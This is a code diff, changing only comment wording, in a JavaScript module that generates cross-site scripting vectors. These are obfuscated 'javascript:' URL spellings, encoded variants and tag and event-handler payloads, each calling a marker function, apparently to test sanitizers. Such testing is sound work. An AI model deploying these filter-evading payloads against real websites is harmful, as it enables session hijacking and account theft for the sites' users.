@@ -1,12 +1,11 @@
-// Ways to get a script into a page, by class: each is a text that runs `xss(n)` where it is taken
-// for markup, an address, a style or a program. Made here by combining what carries with what is
-// carried, so that the list is long and can be read.
+// Script injection vectors by class: each is a text that calls `xss(n)` if it is interpreted as markup, URL, style or
+// script. They are combinations of contexts and payloads, which keeps the list readable.
 
 const dec = (text) => [...text].map((c) => `&#${c.codePointAt(0)};`).join('');
 const hex = (text) => [...text].map((c) => `&#x${c.codePointAt(0).toString(16)};`).join('');
 const base64 = (text) => Buffer.from(text).toString('base64');
 
-/** Addresses that are programs, in every spelling that a browser or a sloppy filter may take. */
+/** Script URLs in every spelling that browsers accept or filters may miss. */
 export const addresses = (run) => [
   `javascript:${run}`, `JaVaScRiPt:${run}`, ` javascript:${run}`, `\tjavascript:${run}`, `\njavascript:${run}`,
   `\u0001javascript:${run}`, `java\tscript:${run}`, `java\nscript:${run}`, `java\rscript:${run}`,
@@ -124,13 +123,13 @@ const loose = (run) => [
   `<embed code="data:text/html,<script>${run}</script>">`, `<applet code="${run}">`, `<isindex action="javascript:${run}" type=image>`, `<keygen autofocus onfocus=${run}>`, `<portal src="javascript:${run}">`, `<frameset onload=${run}>`,
 ];
 
-/** All of them; `run(n)` is the program of the n-th. */
+/** All vectors; `run(n)` is the script of vector n. */
 export function vectors(run) {
   const made = [];
   const take = (make) => { for (let index = 0; ; index += 1) { const list = make(run(made.length)); if (index >= list.length) return; made.push(list[index]); } };
   for (const make of [scripts, mutations, escapes, breakouts, styles, templates, loose]) take(make);
   for (const [tag, on] of handlers) take((program) => forms.map((form) => form(tag, on, program)));
-  // Every sink with the plain address, and every spelling in the sinks that take most.
+  // Every sink with the plain URL, and every spelling in the most permissive sinks.
   take((program) => sinks.map((sink) => sink(addresses(program)[0])));
   take((program) => addresses(program));
   for (const sink of [0, 2, 3, 6, 30, 33]) take((program) => addresses(program).map(sinks[sink]));
